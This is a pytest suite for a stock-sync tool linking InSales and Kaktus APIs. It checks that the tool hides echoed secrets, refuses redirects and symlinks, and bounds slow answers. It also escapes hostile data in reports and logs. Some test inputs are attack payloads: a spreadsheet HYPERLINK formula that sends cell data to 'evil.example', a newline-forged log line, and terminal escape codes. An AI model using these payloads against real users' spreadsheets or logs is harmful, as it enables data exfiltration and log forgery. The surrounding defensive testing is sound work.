"""Secrets in every form, no redirect followed, answers bounded in size and time, files and
outputs that nobody else can steer: over real HTTP, against the sandbox and a few hostile
servers made of its Emulator."""
import base64
import csv
import json
import stat
import time
from pathlib import Path

import pytest

import sandbox
import sync_stock
from conftest import (
    add_pair,
    kaktus_quantities,
    quantity,
    shop_quantities,
    start_monitor,
    warnings_of,
    writes,
)

PRODUCTS = "GET /admin/products.json"


def texts(result, *files) -> str:
    """Everything a run put out: stdout, stderr and the files it wrote."""
    return "\n".join([result.out, result.err, *(path.read_text() for path in files)])


# --- secrets in every form --------------------------------------------------------------------

def test_an_echoed_basic_credential_is_hidden_everywhere(box, run, tmp_path):
    """InSales answering 400 with the request's Authorization header: the base64 of
    key:password shows in no stderr, summary error or LOG_FILE."""
    add_pair(box, "E1", 0, 1)
    box.insales.inject(PRODUCTS, status=400,
                       body=lambda request: {"auth": request.headers["Authorization"]})
    log_file = tmp_path / "sync.log"
    result = run(LOG_FILE=log_file)
    basic = base64.b64encode(f"{box.insales.key}:{box.insales.password}".encode()).decode()
    assert result.code == 3 and "Basic <hidden>" in result.summary["error"]
    assert basic[:10] not in texts(result, log_file)


@pytest.mark.parametrize("api, match", [("insales", PRODUCTS), ("kak2c", "page=0")])
def test_a_password_where_the_detail_is_cut_is_hidden_first(box, run, api, match):
    """An error body whose password stands across the 200th character of the detail shown:
    hidden before the cut, so not its first letters either."""
    add_pair(box, "E2", 0, 1)
    password = getattr(box, api).password
    # '[{"message": "' is 14 characters: the password starts at 191, the cut is at 200
    getattr(box, api).inject(match, status=400, body={
        "success": False, "errors": [{"message": "x" * 167 + " password " + password}]})
    result = run()
    assert result.code == 3 and "password <hidden>" in result.summary["error"]
    assert password[:6] not in texts(result)


def test_a_json_escaped_password_is_hidden(box, run):
    """A password with a quote, a backslash and a slash, echoed JSON-escaped: hidden."""
    password = 'Pa"ss\\w0rd/x'
    box.kak2c.password = password
    add_pair(box, "E3", 0, 1)
    box.kak2c.inject("page=0", status=400, body={"success": False, "errors": [
        {"code": 400, "message": f"wrong password {password}"}]})
    result = run(KAK2C_PASSWORD=password)
    assert result.code == 3 and "wrong password <hidden>" in result.summary["error"]
    assert "w0rd" not in texts(result)


def test_an_echoed_token_is_hidden_whole(box, run, env):
    """Kaktus echoing the Bearer header after 150 characters: neither the JWT's payload nor
    its signature shows."""
    add_pair(box, "E4", 0, 1)
    box.kak2c.inject("page=0", status=400, body=lambda request: {"success": False, "errors": [
        {"code": 400, "message": "y" * 150 + request.headers["Authorization"]}]})
    result = run()
    with open(env["KAK2C_TOKEN_FILE"]) as cached:
        _, payload, signature = json.load(cached)["access_token"].split(".")
    assert result.code == 3 and "Bearer <hidden>" in result.summary["error"]
    assert payload[:10] not in texts(result) and signature[:10] not in texts(result)


def test_a_secret_echoed_in_a_title_reaches_no_file(box, run, env, tmp_path):
    """A hostile shop that puts the app password in a product title: it is hidden in the state
    file (which keeps titles in incremental mode), the report and the log file alike."""
    add_pair(box, "E5", 0, 1)
    next(iter(box.insales.products.values()))["title"] = f"Shoe {box.insales.password}"
    report, log_file = tmp_path / "report.csv", tmp_path / "sync.log"
    result = run("-v", "--report", str(report), SYNC_MODE="incremental", LOG_FILE=log_file)
    state = Path(env["SYNC_STATE_FILE"])
    assert result.code == 0 and "Shoe <hidden>" in state.read_text()
    assert box.insales.password not in texts(result, state, report, log_file)


# --- no redirects -----------------------------------------------------------------------------

def test_a_login_redirected_elsewhere_posts_no_password_there(box, run):
    """Kaktus answering the login with 307 to another host: nothing is sent there; exit 3,
    naming KAK2C_URL and where the redirect pointed."""
    add_pair(box, "R1", 0, 1)
    elsewhere = start_monitor()
    try:
        box.kak2c.inject("POST /api/lite/auth", status=307,
                         headers={"Location": elsewhere.url + "/collect"})
        result = run()
    finally:
        elsewhere.stop()
    assert (result.code, elsewhere.log, writes(box)) == (3, [], [])
    assert f"a redirect to {elsewhere.url}/collect, never followed" in result.summary["error"]
    assert "KAK2C_URL" in result.summary["error"]


def test_an_http_shop_redirected_to_https_is_told_what_to_set(box, run, env):
    """A shop that redirects its http:// address to https://: the line says to set INSALES_URL
    to the https:// one."""
    add_pair(box, "R2", 0, 1)
    secure = env["INSALES_URL"].replace("http://", "https://")
    box.insales.inject(PRODUCTS, status=301, headers={"Location": secure + "/admin/products.json"})
    result = run()
    assert result.code == 3
    assert f"set INSALES_URL to {secure}" in result.summary["error"]


def test_a_ping_redirect_is_not_followed(box, run):
    """A health check that redirects: the run goes on, warns, and pings nothing else."""
    add_pair(box, "R3", 0, 1)
    monitor, elsewhere = start_monitor(), start_monitor()
    monitor.inject("GET", status=302, headers={"Location": elsewhere.url}, times=10)
    try:
        result = run(HEALTHCHECK_URL=monitor.url)
    finally:
        monitor.stop()
        elsewhere.stop()
    assert (result.code, elsewhere.log) == (0, [])
    assert any("HEALTHCHECK_URL" in line and "never followed" in line
               for line in warnings_of(result))


# --- bounded answers --------------------------------------------------------------------------

@pytest.mark.parametrize("api, match", [("insales", PRODUCTS), ("kak2c", "page=0")])
def test_an_answer_that_never_ends_is_cut_at_the_cap(box, run, api, match):
    """An answer of endless 1 MiB chunks: read up to the cap, not retried, exit 3, nothing
    written."""
    add_pair(box, "B1", 0, 1)
    getattr(box, api).inject(match, status=200, endless=True)
    result = run()
    assert (result.code, writes(box)) == (3, [])
    assert "runs past 32 MiB" in result.summary["error"]
    assert len([e for e in getattr(box, api).log if match.split()[-1] in
                f"{e['method']} {e['path']}?page={e['query'].get('page')}"]) == 1


@pytest.mark.parametrize("drip_after", [0, 200], ids=["in the status line", "in the body"])
def test_a_dripping_answer_is_given_up_at_the_deadline(box, run, drip_after):
    """A login answer dripping a byte every 50 ms is given up at SYNC_TIMEOUT of wall-clock
    time, not per read, and retried; the run goes on (the drip alone would take 30 s)."""
    variant = add_pair(box, "D1", 0, 3)
    box.kak2c.inject("POST /api/lite/auth", status=None, drip=0.05, drip_after=drip_after)
    started = time.monotonic()
    result = run(SYNC_TIMEOUT=0.2)
    took = time.monotonic() - started
    assert (result.code, quantity(box, variant), result.waits) == (0, 3, [0.5])
    assert "gave no whole answer within 0.2 s (SYNC_TIMEOUT)" in result.err
    assert took < 4


def test_a_dripping_healthcheck_holds_neither_the_run_nor_the_lock(box, run):
    """A monitor that drips its answers: each ping is given up at its deadline, the run
    ends with its own exit code, and the next run is not skipped."""
    add_pair(box, "H1", 0, 2)
    monitor = start_monitor()
    monitor.inject("GET", status=None, drip=0.05, times=100)
    try:
        started = time.monotonic()
        first = run(HEALTHCHECK_URL=monitor.url, SYNC_TIMEOUT=0.15)
        took = time.monotonic() - started
        second = run(HEALTHCHECK_URL=monitor.url, SYNC_TIMEOUT=0.15)
    finally:
        monitor.stop()
    assert (first.code, first.summary["status"], second.summary["status"]) == (0, "ok", "ok")
    assert any("ping /start (HEALTHCHECK_URL) failed" in line
               and "within 0.15 s (a ping's limit)" in line for line in warnings_of(first))
    assert took < 2


def test_a_ping_whose_connection_breaks_is_not_called_slow(box, run):
    """A monitor that resets the connection at once: the warning says the connection failed,
    not that the answer took too long."""
    add_pair(box, "H2", 0, 2)
    monitor = start_monitor()
    monitor.inject("GET", reset=True, times=100)
    try:
        result = run(HEALTHCHECK_URL=monitor.url)
    finally:
        monitor.stop()
    pings = [line for line in warnings_of(result) if "(HEALTHCHECK_URL) failed" in line]
    assert result.code == 0 and len(pings) == 2
    assert all("(the connection failed)" in line and "no whole answer" not in line
               for line in pings)


# --- files ------------------------------------------------------------------------------------

@pytest.mark.parametrize("setting", ["LOG_FILE", "SYNC_LOCK_FILE"])
@pytest.mark.parametrize("target_exists", [True, False])
def test_a_planted_symlink_is_never_written_through(box, run, tmp_path, setting,
                                                    target_exists):
    """LOG_FILE or SYNC_LOCK_FILE a symbolic link planted by someone else: exit 2 naming the
    setting; the target neither written nor created; nothing sent."""
    add_pair(box, "S1", 0, 1)
    target, link = tmp_path / "their.bashrc", tmp_path / "planted"
    if target_exists:
        target.write_text("theirs\n")
    link.symlink_to(target)
    result = run(**{setting: link})
    assert result.code == 2
    assert f"{setting} {link} is a symbolic link" in result.err and "Traceback" not in result.err
    assert (target.read_text() if target_exists else target.exists()) == (
        "theirs\n" if target_exists else False)
    assert box.insales.log == [] and box.kak2c.log == []


def test_the_log_file_is_created_private(box, run, tmp_path):
    """A new LOG_FILE is created readable by its owner alone."""
    add_pair(box, "S2", 0, 1)
    log_file = tmp_path / "logs" / "sync.log"
    assert run(LOG_FILE=log_file).code == 0
    assert stat.S_IMODE(log_file.stat().st_mode) == 0o600
    assert "status=ok" in log_file.read_text()


def test_a_credentials_file_others_can_read_is_warned_of(box, run, tmp_path):
    """KAK2C_CREDENTIALS_FILE left 0644: a WARNING with its path, mode and the chmod to run;
    the run goes on."""
    add_pair(box, "P1", 0, 1)
    credentials = tmp_path / "kak2c_info"
    credentials.write_text(json.dumps({"login": box.kak2c.login,
                                       "password": box.kak2c.password}))
    credentials.chmod(0o644)
    result = run(KAK2C_LOGIN=None, KAK2C_PASSWORD=None, KAK2C_CREDENTIALS_FILE=credentials)
    assert result.code == 0
    assert [line.split(" WARNING ")[1] for line in warnings_of(result)] == [
        f"KAK2C_CREDENTIALS_FILE {credentials} holds a password and can be read by group or "
        f"others (mode 0644); run: chmod 600 {credentials}"]
    credentials.chmod(0o600)
    assert warnings_of(run(KAK2C_LOGIN=None, KAK2C_PASSWORD=None,
                           KAK2C_CREDENTIALS_FILE=credentials)) == []


def test_a_settings_file_with_a_password_others_can_read_is_warned_of_once(box, watch, env,
                                                                          tmp_path, monkeypatch):
    """A settings file that holds a password, left 0640: one WARNING in a whole watch; one
    without a password is no secret."""
    add_pair(box, "P2", 0, 1)
    settings = tmp_path / "shop.env"
    settings.write_text(f"INSALES_API_PASSWORD={env['INSALES_API_PASSWORD']}\n")
    settings.chmod(0o640)
    monkeypatch.delenv("INSALES_API_PASSWORD")
    result = watch("--env-file", str(settings), syncs=3)
    said = [line for line in result.err.splitlines() if "chmod 600" in line]
    assert len(said) == 1 and " WARNING " in said[0] and "mode 0640" in said[0]
    settings.write_text("SYNC_STOCK_BUFFER=0\n")
    assert "chmod" not in watch("--env-file", str(settings), syncs=1).err


# --- outputs are data -------------------------------------------------------------------------

def test_report_cells_are_data_not_formulas(box, run, tmp_path):
    """A title or barcode that begins like a formula gets a leading '; figures stay numbers."""
    add_pair(box, "=1+2", 0, 1)
    add_pair(box, "N2", -2, 1)
    first = next(iter(box.insales.products.values()))
    first["title"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    report = tmp_path / "report.csv"
    assert run("--report", str(report)).code == 0
    with open(report, newline="") as table:
        rows = {row["insales_qty"]: row for row in csv.DictReader(table)}
    assert rows["0"]["barcode"] == "'=1+2"
    assert rows["0"]["title"].startswith("'=HYPERLINK(")
    assert rows["-2"]["barcode"] == "N2"


def test_an_id_with_a_newline_forges_no_log_line(box, run):
    """A malformed product whose id carries a newline and a log line: shown escaped."""
    add_pair(box, "F1", 0, 1)
    product = box.insales.add_product("bad", [{"barcode": "F2", "quantity": 1}])
    product["id"] = "7\n2026-01-01T00:00:00+00:00 INFO status=ok"
    result = run()
    assert result.code == 0
    assert not any(line.startswith("2026-01-01") for line in result.err.splitlines())
    assert "(id 7\\n2026-01-01T00:00:00+00:00 INFO status" in result.err


def test_terminal_escapes_in_a_title_are_shown_escaped(box, run):
    """A title with a terminal escape and a carriage return: escaped in the dry-run table."""
    add_pair(box, "T1", 0, 4)
    next(iter(box.insales.products.values()))["title"] = "Shoe\x1b[2J\rPAID"
    result = run("--dry-run")
    assert "\x1b" not in result.err and "\r" not in result.err
    assert "Shoe\\x1b[2J\\rPAID" in result.err


# --- https to remote hosts --------------------------------------------------------------------

@pytest.mark.parametrize("setting", ["INSALES_URL", "KAK2C_URL"])
def test_http_to_a_remote_host_is_a_configuration_error(box, run, setting):
    """An API address over http:// to another machine: exit 2 naming the setting and the
    https:// address to set; nothing sent. http:// to this machine (the sandbox) is fine."""
    result = run(**{setting: "http://shop.example.com"})
    assert result.code == 2 and "set it to https://shop.example.com" in result.err
    assert setting in result.err and box.insales.log == [] and box.kak2c.log == []
    for local in ("http://localhost:1", "http://[::1]:1", "http://127.0.0.2:1"):
        assert sync_stock.read_api_url(setting, local) == local


def test_an_http_healthcheck_to_a_remote_host_is_warned_of(box, run):
    """HEALTHCHECK_URL over http:// to another machine: a WARNING (--check pings nothing)."""
    add_pair(box, "W1", 0, 1)
    result = run("--check", HEALTHCHECK_URL="http://hc.example.com/ping/abc")
    assert any("HEALTHCHECK_URL=http://hc.example.com/ping/abc is http://" in line
               for line in warnings_of(result))


def test_answers_that_close_the_connection_are_read_whole(box, run):
    """Both APIs answering every request with Connection: close (as a proxy may), in pages far
    longer than one read: each answer is read to its end, and the run syncs as usual."""
    sandbox.fill_sample(box, products=300, sizes=2, quirks=False, differ=0.5)
    for emulator in (box.insales, box.kak2c):
        emulator.rewrite = lambda request, status, headers, body: (
            status, {**headers, "Connection": "close"}, body)
    result = run()
    assert (result.code, result.summary["matched"]) == (0, 600), result.err
    assert shop_quantities(box) == kaktus_quantities(box)
